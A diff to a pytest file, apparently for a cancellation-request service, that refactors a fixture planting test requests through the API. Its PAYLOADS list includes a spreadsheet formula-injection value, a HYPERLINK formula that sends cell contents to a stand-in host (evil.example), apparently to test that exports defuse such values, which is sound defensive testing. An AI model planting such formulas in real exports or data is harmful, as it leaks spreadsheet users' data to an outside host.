@@ -20,7 +20,12 @@ from cancelflow.db import get_engine, transaction
 from cancelflow.models import CancellationRequest, ExportFormat
 from cancelflow.services import exports, tags
 from cancelflow.services.queries import RequestFilters
-from tests.factories import VALID_IBAN, load, new_order, order_payload, token_headers
+from tests.factories import (
+    bank_transfer_request_over_api,
+    load,
+    order_payload,
+    token_headers,
+)
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")',
@@ -42,14 +47,7 @@ def storefront(database: str) -> dict[str, str]:
 @pytest.fixture(scope="module")
 def planted(client: TestClient, storefront: dict[str, str]) -> list[int]:
     """One request per payload, created by a storefront token, tagged with the payload too."""
-    ids = []
-    for payload in PAYLOADS:
-        order = new_order(method="bank_transfer", channel=1)
-        body = {"order_item": order.item_id, "reason": 1, "quantity": 1}
-        body |= {"iban": VALID_IBAN, "holder_name": payload}
-        response = client.post("/api/v1/cancellation_requests/", headers=storefront, json=body)
-        assert response.status_code == 201, response.text
-        ids.append(int(response.json()["id"]))
+    ids = [bank_transfer_request_over_api(client, storefront, holder_name=payload) for payload in PAYLOADS]
     with transaction() as session:
         tags.add(session, ids[0], [PAYLOADS[1]])
         # The API strips surrounding whitespace; other writers (imports, the CLI) may not: exact values.
